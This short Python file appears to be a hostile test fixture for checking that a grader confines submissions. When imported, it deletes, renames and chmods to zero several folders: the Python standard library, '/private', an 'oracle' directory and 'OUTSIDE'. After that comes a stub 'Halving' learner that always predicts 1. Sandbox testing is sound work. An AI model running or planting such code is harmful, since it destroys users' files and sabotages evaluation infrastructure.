"""Deletes, renames and locks up all that it can name.

Verdict: falsified
Needs: confinement
"""

import contextlib
import json
import os
import shutil

for folder in ("OUTSIDE", "PROJECT/oracle", os.path.dirname(json.__file__), "/private"):
    shutil.rmtree(folder, ignore_errors=True)
    with contextlib.suppress(OSError):
        os.rename(folder, f"{folder}-gone")
    with contextlib.suppress(OSError):
        os.chmod(folder, 0)


class Halving:
    def __init__(self, hypotheses):
        self.hypotheses = hypotheses

    def predict(self, x):
        return 1

    def update(self, x, y):
        pass
